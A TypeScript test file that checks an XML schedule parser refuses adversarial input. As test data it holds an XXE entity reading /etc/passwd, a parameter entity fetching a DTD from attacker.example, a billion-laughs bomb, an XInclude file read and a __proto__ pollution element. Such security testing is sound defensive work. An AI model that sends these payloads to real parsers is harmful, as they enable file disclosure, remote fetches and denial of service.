import { describe, expect, it } from 'vitest'
import { InputError } from '../../src/errors.js'
import { parseTalks } from '../../src/io/parseTalks.js'

const event = (body: string): string => `<schedule>\n<day date="2024-01-01">\n<room name="A">\n<event id="1">${body}</event>\n</room>\n</day>\n</schedule>\n`

/** The error parseTalks throws for `text`, or undefined. */
function errorOf(text: string): InputError | undefined {
  try {
    parseTalks(text, { fileName: 'evil.xml' })
  } catch (error) {
    if (error instanceof InputError) return error
    throw error
  }
  return undefined
}

describe('adversarial XML', () => {
  it('an external entity (XXE) is refused before anything is resolved', () => {
    const xxe = `<?xml version="1.0"?>\n<!DOCTYPE schedule [\n  <!ENTITY xxe SYSTEM "file:///etc/passwd">\n]>\n${event('<title>&xxe;</title>')}`
    const error = errorOf(xxe)
    expect(error?.message).toBe('evil.xml:3: entity declarations (<!ENTITY>) are refused: external and expanding entities are not supported')
    expect(error?.line).toBe(3)
  })

  it('a parameter entity pointing at a URL is refused', () => {
    const doc = `<!DOCTYPE schedule [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>\n${event('<title>x</title>')}`
    expect(errorOf(doc)?.message).toMatch(/^evil\.xml:1: entity declarations \(<!ENTITY>\) are refused/)
  })

  it('a billion-laughs entity bomb is refused without expanding anything', () => {
    let declarations = '<!ENTITY lol "lol">\n'
    for (let i = 1; i <= 9; i++) declarations += `<!ENTITY lol${i} "${`&lol${i === 1 ? '' : i - 1};`.repeat(10)}">\n`
    const bomb = `<?xml version="1.0"?>\n<!DOCTYPE schedule [\n${declarations}]>\n${event('<title>&lol9;</title>')}`
    expect(errorOf(bomb)?.message).toBe('evil.xml:3: entity declarations (<!ENTITY>) are refused: external and expanding entities are not supported')
  })

  it('an undeclared entity reference stays literal text and is never resolved', () => {
    const { talks } = parseTalks(event('<title>Hello &xxe; world</title>'))
    expect(talks[0]!.title).toBe('Hello &xxe; world')
  })

  it('an XInclude element in an abstract is text, not a file read', () => {
    const { talks } = parseTalks(event('<title>T</title><abstract><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="/etc/passwd"/>body</abstract>'))
    expect(talks[0]!.abstract).toBe('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="/etc/passwd"/>body')
  })

  it('malformed XML is reported with its line', () => {
    expect(errorOf(event('<title>T</titel>'))?.message).toBe('evil.xml:4: unclosed <title> (found </titel> at line 4)')
    expect(errorOf('<schedule>\n<day>\n')?.message).toBe('evil.xml:2: unclosed <day> at end of input')
  })

  it('an element named __proto__ is refused as input, and pollutes nothing', () => {
    const error = errorOf(event('<title>T</title><__proto__><polluted>yes</polluted></__proto__>'))
    expect(error?.message).toMatch(/^evil\.xml: malformed XML: /)
    expect(({} as Record<string, unknown>)['polluted']).toBeUndefined()
  })
})
